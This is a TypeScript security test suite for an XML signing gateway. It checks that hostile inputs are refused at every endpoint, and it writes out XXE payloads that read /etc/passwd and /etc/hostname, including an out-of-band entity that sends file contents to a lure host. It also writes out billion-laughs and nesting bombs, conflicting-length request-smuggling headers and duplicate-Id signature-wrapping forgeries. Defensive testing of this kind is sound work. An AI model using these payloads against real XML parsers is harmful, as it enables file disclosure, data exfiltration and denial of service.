/** Documents that attack whoever reads them: refused by name, while everybody else is served as before. */
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { gzipSync } from 'node:zlib'
import { afterAll, beforeAll, expect, vi } from 'vitest'
import { DeclarantsTable } from '../support/declarants-table.ts'
import { exampleProfiles } from '../support/example-profiles.ts'
import { eventually } from '../support/gateway.ts'
import { readHistory } from '../support/history.ts'
import { OWN_A } from '../support/office.ts'
import { promise } from '../support/promise.ts'
import { framesOf, openSocket, speak } from '../support/raw-talk.ts'
import { Siege } from '../support/siege.ts'

// Seconds on an idle machine; minutes beside everything else.
vi.setConfig({ testTimeout: 300_000 })

const MIB = 1024 * 1024
let siege: Siege
let table: DeclarantsTable
/** Whoever a document would like to be fetched from. */
let lure: Server
let fetched = 0

beforeAll(async () => {
  lure = createServer((_, response) => {
    fetched++
    response.end('<!ENTITY x "fetched">')
  })
  lure.on('connection', () => fetched++)
  await new Promise<void>((resolve) => lure.listen(0, '127.0.0.1', resolve))
  siege = await Siege.start('hostile', {
    config: (folder) => {
      table = new DeclarantsTable(`${folder}/declarations.db`)
      table.run(FOREIGN_TABLE)
      const { 'invoice-2011': byId, 'tax-filing': added } = exampleProfiles
      return {
        sources: [table.source('kho')],
        profiles: { 'by-id': byId, added, single: { ...added, existing: 'reject' } },
      }
    },
  })
})

afterAll(async () => {
  await siege?.stop()
  table?.close()
  lure?.close()
})

/** Somebody else's table, which forbids nothing; the one that init-table makes is stricter. */
const FOREIGN_TABLE = `CREATE TABLE congky_request (id INTEGER PRIMARY KEY, tax_code TEXT, profile TEXT, document TEXT,
  requester TEXT, state INTEGER, signed_document TEXT, error_code TEXT, error_message TEXT, claimed_by TEXT,
  claim_token TEXT, claimed_until INTEGER, created_at INTEGER, updated_at INTEGER)`

const url = () => `http://127.0.0.1:${(lure.address() as AddressInfo).port}`

type Named = readonly [name: string, document: string | Uint8Array]

/** Sends each through every door that takes documents; all of them refuse it by the same name. */
async function expectRefused(code: string, documents: readonly Named[], doors: readonly Door[] = everyDoor) {
  for (const [name, document] of documents) {
    for (const door of doors) {
      expect([name, door.name, ...(await door.refusal(Buffer.from(document)))]).toEqual([name, door.name, 422, code])
    }
    await siege.expectWell()
  }
}

interface Door {
  readonly name: string
  readonly refusal: (document: Buffer) => Promise<readonly [status: number, code: string | null]>
}

const raw: Door = {
  name: 'POST /sign',
  refusal: async (body) => {
    const { status, code, headers } = await siege.call('POST', '/sign', { body })
    expect(headers['x-content-type-options']).toBe('nosniff')
    return [status, code]
  },
}
const json: Door = {
  name: 'POST /sign-requests',
  refusal: async (body) => {
    const answer = await siege.postJson('/sign-requests?wait=20', { documentBase64: body.toString('base64') })
    const view = answer.json() as { error?: { code: string } }
    return [422, view.error?.code ?? answer.code]
  },
}
const verify: Door = {
  name: 'POST /verify',
  refusal: async (body) => {
    const { status, code } = await siege.call('POST', '/verify', { body })
    return [status, code]
  },
}
const row: Door = {
  name: 'a row of a table',
  refusal: async (document) => {
    const text = document.toString('utf8')
    table.insert([{ document: Buffer.from(text).equals(document) ? text : document }])
    const rows = await eventually(() => {
      const all = table.rows()
      return all.every(({ state }) => state > 1) ? all : null
    })
    return [422, rows.at(-1)?.error_code ?? null]
  },
}
const everyDoor = [raw, json, verify, row]

promise(
  'S1',
  'entities and external files are refused at every door, and nothing is fetched or read',
  async (count) => {
    const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')
    const documents: readonly Named[] = [
      ['an external file', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
      ['an external address', `<!DOCTYPE a [<!ENTITY x SYSTEM "${url()}/x">]><a>&x;</a>`],
      ['an external DTD', `<?xml version="1.0"?>\n<!DOCTYPE a SYSTEM "${url()}/a.dtd"><a/>`],
      ['a public DTD', `<!DOCTYPE a PUBLIC "-//X//Y" "${url()}/a.dtd"><a/>`],
      ['a parameter entity', `<!DOCTYPE a [<!ENTITY % p SYSTEM "${url()}/p.dtd">%p;]><a/>`],
      [
        'parameters that build an entity',
        `<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % e "<!ENTITY x SYSTEM '${url()}/?%f;'>">%e;]><a>&x;</a>`,
      ],
      ['a billion laughs', `<!DOCTYPE l0 [<!ENTITY l0 "ha">${laughs}]><l0>&l9;</l0>`],
      ['quadratic growth', `<!DOCTYPE a [<!ENTITY x "${'x'.repeat(50_000)}">]><a>${'&x;'.repeat(50_000)}</a>`],
      ['default attributes', '<!DOCTYPE a [<!ATTLIST a Id ID "x">]><a/>'],
      [
        'a DOCTYPE behind a byte order mark and comments',
        '\uFEFF<?xml version="1.0"?><!-- > --><?p >?>\n<!DOCTYPE a><a/>',
      ],
      ['a DOCTYPE inside the root', '<a><!DOCTYPE a></a>'],
    ]
    await expectRefused('ERR_DOCTYPE_FORBIDDEN', documents)
    await expectRefused('ERR_DOCUMENT_NOT_XML', [
      ['an entity that nobody declared', '<a>&x;</a>'],
      ['an entity in an attribute', '<a b="&x;"/>'],
      ['a DOCTYPE in lower case', '<!doctype a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a/>'],
    ])

    // What other readers would follow is content to us: signed as it stands, and fetched by nobody.
    const pointers = `<?xml-stylesheet href="${url()}/s.xsl" type="text/xsl"?><a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x ${url()}/x.xsd"><i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///etc/hostname" parse="text"/></a>`
    const signed = await siege.call('POST', '/sign', { body: pointers })
    expect(signed.bytes.toString()).toContain(pointers.slice(0, -'</a>'.length))
    expect((await siege.call('POST', '/verify', { body: signed.bytes })).json()).toMatchObject({ valid: true })

    const { stdout } = await siege.gateway.run(['history', 'export'])
    expect(stdout + siege.gateway.output).not.toContain('root:x:0')
    const recorded = (await readHistory(siege.gateway)).filter(
      ({ kind, code }) => kind === 'rejected' && code === 'ERR_DOCTYPE_FORBIDDEN',
    )
    // Whatever asks for a signature leaves a record; a question about signatures leaves none.
    expect(recorded).toHaveLength(documents.length * 3)
    expect(fetched).toBe(0)
    count(`${documents.length + 3} documents at ${everyDoor.length} doors: 0 fetched; ${await siege.expectCalm()}`)
  },
)

promise(
  'S2',
  'documents of a shape that exhausts a reader are refused, heavy ones within the limits are signed',
  async (count) => {
    const many = (times: number, text: (index: number) => string) =>
      Array.from({ length: times }, (_, i) => text(i)).join('')
    const nested = (depth: number) => '<a>'.repeat(depth) + '</a>'.repeat(depth)
    const bombs: readonly Named[] = [
      ['201 levels', nested(201)],
      ['500,000 levels', nested(500_000)],
      ['half a million open elements', '<a>'.repeat(1_000_000)],
      ['257 attributes', `<a${many(257, (i) => ` b${i}=""`)}/>`],
      ['300,000 attributes', `<a${many(300_000, (i) => ` b${i}=""`)}/>`],
      [
        '129 namespaces at one place',
        `<a${many(65, (i) => ` xmlns:a${i}="urn:${i}"`)}><b${many(64, (i) => ` xmlns:b${i}="urn:${i}"`)}/></a>`,
      ],
      ['namespaces at every level', many(190, (i) => `<a xmlns:n${i}="urn:${i}">`) + '</a>'.repeat(190)],
      [
        '100 namespaces over 200,000 elements',
        `<a${many(100, (i) => ` xmlns:n${i}="urn:${i}"`)}>${'<b/>'.repeat(200_000)}</a>`,
      ],
      ['a name of 1,001 bytes', `<${'a'.repeat(1_001)}/>`],
      ['a name of 3 MB', `<${'a'.repeat(3_000_000)}/>`],
      ['a name of an attribute of 3 MB', `<a ${'b'.repeat(3_000_000)}=""/>`],
      ['a million elements', `<a>${'<b/>'.repeat(1_000_000)}</a>`],
    ]
    await expectRefused('ERR_DOCUMENT_TOO_COMPLEX', bombs, [raw, verify])

    const heavy: readonly Named[] = [
      ['400,000 comments', `<a>${'<!---->'.repeat(400_000)}</a>`],
      ['a comment of 4 MB', `<a><!--${'-x'.repeat(2_000_000)}--></a>`],
      ['an attribute of 4 MB', `<a b="${'x'.repeat(4_000_000)}"/>`],
      ['300,000 instructions', `<a>${'<?p?>'.repeat(300_000)}</a>`],
      ['a text of 4 MB of references', `<a>${'&lt;'.repeat(1_000_000)}</a>`],
      [
        '40 namespaces over 50,000 elements',
        `<a${many(40, (i) => ` xmlns:n${i}="urn:${i}"`)}>${'<b/>'.repeat(50_000)}</a>`,
      ],
    ]
    for (const [name, document] of heavy) {
      const { status, code } = await siege.call('POST', '/sign', { body: document })
      expect([name, status, code]).toEqual([name, 200, null])
      await siege.expectWell()
    }
    count(`${bombs.length} bombs refused, ${heavy.length} heavy documents signed; ${await siege.expectCalm()}`)
  },
)

promise('S3', 'a body over the limit is refused while it is read, however it is sent', async (count) => {
  const limit = 4 * MIB
  const sized = (bytes: number) => `<a>${'x'.repeat(bytes - '<a></a>'.length)}</a>`
  const exact = await siege.call('POST', '/sign', { body: sized(limit) })
  expect([exact.status, exact.bytes.length > limit]).toEqual([200, true])
  const base64 = (text: string) => ({ documentBase64: Buffer.from(text).toString('base64') })
  expect(await json.refusal(Buffer.from(sized(limit - 1)))).toEqual([422, null])

  const key = { 'idempotency-key': 'too-large' }
  const refusals = {
    'a byte too many, in base64': await siege.postJson('/sign-requests', base64(sized(limit + 1)), key),
    'a byte too many, as JSON': await siege.postJson('/sign-requests', { document: sized(limit + 1) }),
  }
  for (const [name, { status, code }] of Object.entries(refusals)) {
    expect([name, status, code]).toEqual([name, 413, 'ERR_DOCUMENT_TOO_LARGE'])
  }
  await siege.expectWell()

  // What the header says counts before a byte of the body came, and a lie is found out.
  const head = (length: string, path = 'sign', type = 'text/xml') =>
    [
      `POST /api/v1/${path} HTTP/1.1`,
      'Host: localhost',
      `Authorization: Bearer ${siege.accessKey}`,
      `Content-Type: ${type}`,
      'Idempotency-Key: too-large',
      `${length}\r\n\r\n`,
    ].join('\r\n')
  const length = (bytes: number) => `Content-Length: ${bytes}`
  const inChunk = (text: string) => `${text.length.toString(16)}\r\n${text}\r\n`
  const tooLarge = /^HTTP\/1\.1 413 [\s\S]*ERR_DOCUMENT_TOO_LARGE/
  const asChunks = 'Transfer-Encoding: chunked'
  const lies: readonly (readonly [name: string, sent: string, answer: RegExp])[] = [
    ['a byte too many', head(length(limit + 1)), tooLarge],
    ['5 GB that never come', head(length(5e9)), tooLarge],
    ['9 MB of JSON', head(length(9 * MIB), 'sign-requests', 'application/json'), tooLarge],
    ['9 MB to be verified', head(length(9 * MIB), 'verify'), tooLarge],
    ['a byte too many, in chunks', `${head(asChunks)}${inChunk(sized(limit + 1))}0\r\n\r\n`, tooLarge],
    ['more than was said', `${head(length(4))}<a/><b/>`, /^HTTP\/1\.1 [24]00 (?![\s\S]*HTTP\/1\.1 200)/],
    ['two lengths', `${head(`${length(4)}\r\n${length(8)}`)}<a/>`, /^HTTP\/1\.1 400 /],
    ['a length and chunks', `${head(`${length(4)}\r\n${asChunks}`)}0\r\n\r\n`, /^HTTP\/1\.1 400 /],
    ['a length that is none', `${head('Content-Length: -1')}<a/>`, /^HTTP\/1\.1 400 /],
    ['a size of a chunk that is none', `${head(asChunks)}fffffffffffffffff\r\n<a/>`, /^HTTP\/1\.1 400 /],
  ]
  for (const [name, sent, expected] of lies) {
    expect(await speak(siege.gateway.url, sent), name).toMatch(expected)
    await siege.expectWell()
  }
  // Packed bodies are not unpacked: the bytes are the document.
  const packed = await siege.call('POST', '/sign', {
    body: gzipSync(sized(limit)),
    headers: { 'content-encoding': 'gzip' },
  })
  expect([packed.status, packed.code]).toEqual([422, 'ERR_DOCUMENT_ENCODING'])

  const socket = await openSocket(siege)
  const closed = new Promise<number>((resolve) => socket.once('close', resolve))
  socket.send(Buffer.concat([Buffer.from('{"type":"sign","requestId":"ws"}\n'), Buffer.alloc(9 * MIB, 'x')]))
  // The gateway says 1009 and closes; who is still sending may be cut off before it reads that.
  expect([1009, 1006]).toContain(await closed)

  const refused = (await readHistory(siege.gateway)).filter(({ code }) => code === 'ERR_DOCUMENT_TOO_LARGE')
  expect(refused.map(({ source }) => source)).toEqual(expect.arrayContaining(['http', 'websocket']))
  expect(refused.filter(({ externalId }) => externalId === 'too-large').length).toBeGreaterThanOrEqual(2)
  count(`${Object.keys(refusals).length + lies.length + 2} ways; ${await siege.expectCalm()}`)
})

promise('S4', 'broken characters and false declarations are refused, through text as through bytes', async (count) => {
  const bytes = (...parts: readonly (string | number)[]) =>
    Buffer.concat(parts.map((part) => (typeof part === 'number' ? Buffer.of(part) : Buffer.from(part))))
  const declared = (name: string) => `<?xml version="1.0" encoding="${name}"?><a/>`
  const broken: readonly Named[] = [
    ['a byte that begins no character', bytes('<a>', 0xff, '</a>')],
    ['a character cut off', bytes('<a>', 0xe1, 0xba, '</a>')],
    ['an overlong slash', bytes('<a>', 0xc0, 0xaf, '</a>')],
    ['an overlong less-than', bytes('<a>', 0xe0, 0x80, 0xbc, '</a>')],
    ['half a surrogate pair in UTF-8', bytes('<a>', 0xed, 0xa0, 0x80, '</a>')],
    ['beyond the last character', bytes('<a>', 0xf4, 0x90, 0x80, 0x80, '</a>')],
    ['NUL', '<a>\0</a>'],
    ['NUL behind the end', '<a/>\0'],
    ['NUL in a name', '<a\0b/>'],
    ['UTF-16 with its mark', Buffer.concat([Buffer.of(0xff, 0xfe), Buffer.from('<a/>', 'utf16le')])],
    ['UTF-16 without', Buffer.from('<a>ế</a>', 'utf16le')],
    ['UTF-16 that says UTF-8', Buffer.from(declared('UTF-8'), 'utf16le')],
    ['UTF-8 that says UTF-16', declared('UTF-16')],
    ['UTF-32', bytes(0, 0, 0, 0x3c, 0, 0, 0, 0x61)],
    ['UTF-7', declared('UTF-7')],
    ['windows-1258', declared('windows-1258')],
    ['ISO-8859-1', declared('ISO-8859-1')],
    ['EBCDIC', declared('IBM037')],
  ]
  await expectRefused('ERR_DOCUMENT_ENCODING', broken, [raw, json, verify])
  // A column of text cannot hold all of these; what it can is refused alike.
  for (const [name, document] of broken) {
    expect([name, ...(await row.refusal(Buffer.from(document)))]).toEqual([name, 422, 'ERR_DOCUMENT_ENCODING'])
  }
  await expectRefused('ERR_DOCUMENT_NOT_XML', [
    ['NUL as a reference', '<a>&#0;</a>'],
    ['half a surrogate pair as a reference', '<a>&#xd800;</a>'],
    ['a control character', '<a>\u0001</a>'],
    ['no character at all', '<a>\uffff</a>'],
    ['two byte order marks', '\uFEFF\uFEFF<a/>'],
    ['XML 1.1, which has other line ends', '<?xml version="1.1"?><a>\u0085</a>'],
  ])

  // JSON has ways of its own to say half a character; nobody meant to have another one signed instead.
  for (const document of ['<a>\\ud800</a>', '<a>\\udc00\\ud800</a>']) {
    const { bytes, code } = await siege.call('POST', '/sign-requests?wait=20', {
      body: `{"document":"${document}"}`,
      headers: { 'content-type': 'application/json' },
    })
    expect([document, code ?? bytes.toString()]).toEqual([document, expect.stringContaining('ERR_DOCUMENT_ENCODING')])
  }
  const headers = { 'content-type': 'application/json' }
  const brokenJson = bytes('{"document":"<a>', 0xff, '</a>"}')
  const inJson = await siege.call('POST', '/sign-requests?wait=20', { body: brokenJson, headers })
  expect([inJson.status, inJson.code]).toEqual([400, 'ERR_REQUEST_INVALID'])
  const socket = await openSocket(siege)
  const answers = framesOf(socket)
  socket.send('{"type":"sign","requestId":"half","document":"<a>\\ud800</a>"}')
  await eventually(() => answers.some(({ type, code }) => type === 'rejected' && code === 'ERR_DOCUMENT_ENCODING'))
  const closed = new Promise<number>((resolve) => socket.once('close', resolve))
  socket.send(bytes('{"type":"sign","requestId":"broken","document":"<a>', 0xff, '</a>"}'), { binary: false })
  expect(await closed).toBe(1007)

  const marked = `\uFEFF${declared('utf-8')}`
  expect((await siege.call('POST', '/sign', { body: marked })).bytes.toString()).toContain('\uFEFF<?xml')
  count(`${broken.length + 10} documents; ${await siege.expectCalm()}`)
})

promise(
  'S5',
  'an Id that two elements carry, in whatever spelling, is signed nowhere and valid nowhere',
  async (count) => {
    const same: readonly Named[] = [
      ['the same Id twice', '<a><b Id="x"/><c Id="x"/></a>'],
      ['inside each other', '<a Id="x"><b Id="x"/></a>'],
      ['by a reference to a character', '<a><b Id="x"/><c Id="&#120;"/></a>'],
      ['in xml:id', '<a><b xml:id="x"/><c xml:id="x"/></a>'],
      ['in Id and xml:id', '<a><b Id="x"/><c xml:id="x"/></a>'],
    ]
    await expectRefused('ERR_DUPLICATE_ID', same, [raw, json, row])

    const invoice = (more: string) => `<invoice><data id="data"/>${more}</invoice>`
    const others = ['id', 'Id', 'ID', 'xml:id', 'n:id', 'n:Id'].map((name) =>
      invoice(`<x xmlns:n="urn:n" ${name}="data"/>`),
    )
    for (const document of others) {
      const { status, code } = await siege.call('POST', '/sign?profile=by-id', { body: document })
      expect([document, status, code]).toEqual([document, 422, 'ERR_DUPLICATE_ID'])
    }
    const signed = await siege.call('POST', '/sign?profile=by-id', { body: invoice('') })
    expect(signed.status).toBe(200)
    for (const document of others) {
      const forged = signed.bytes
        .toString()
        .replace('<data id="data"', (data) => `${/<x.*?\/>/.exec(document)?.[0]}${data}`)
      const report = (await siege.call('POST', '/verify', { body: forged })).json() as { valid: boolean }
      expect([document, report.valid]).toEqual([document, false])
    }
    await siege.expectWell()
    count(
      `${same.length * 3 + others.length} refused, ${others.length} forged ones not valid; ${await siege.expectCalm()}`,
    )
  },
)

promise('S6', 'a document signed already is refused or gets a second signature, as its profile says', async (count) => {
  const filing = '<HSoThueDTu><HSoKhaiThue id="_NODE_TO_SIGN"/><CKyDTu/></HSoThueDTu>'
  const sign = (profile: string, body: string | Uint8Array) => siege.call('POST', `/sign?profile=${profile}`, { body })
  const one = await sign('added', filing)
  const two = await sign(`added&taxCode=${OWN_A.taxCode}`, one.bytes)
  expect([one.status, two.status]).toEqual([200, 200])
  const report = (await siege.call('POST', '/verify', { body: two.bytes })).json()
  expect(report).toMatchObject({ valid: true, signatures: [{ valid: true }, { valid: true }] })

  const whole = await siege.call('POST', '/sign', { body: filing })
  const refusals = {
    'the profile allows one': await sign('single', one.bytes),
    'the very same signature is there': await sign('added', one.bytes),
    'the first speaks for the whole document': await siege.call('POST', '/sign', { body: whole.bytes }),
    'the first speaks for the whole, the profile adds': await sign('added', whole.bytes),
  }
  for (const [name, { status, code }] of Object.entries(refusals)) {
    expect([name, status, code]).toEqual([name, 422, 'ERR_ALREADY_SIGNED'])
  }
  const inHistory = (await readHistory(siege.gateway)).filter(
    ({ kind, code }) => kind === 'rejected' && code === 'ERR_ALREADY_SIGNED',
  )
  expect(inHistory).toHaveLength(Object.keys(refusals).length)
  count(`1 added, ${Object.keys(refusals).length} refused; ${await siege.expectCalm()}`)
})
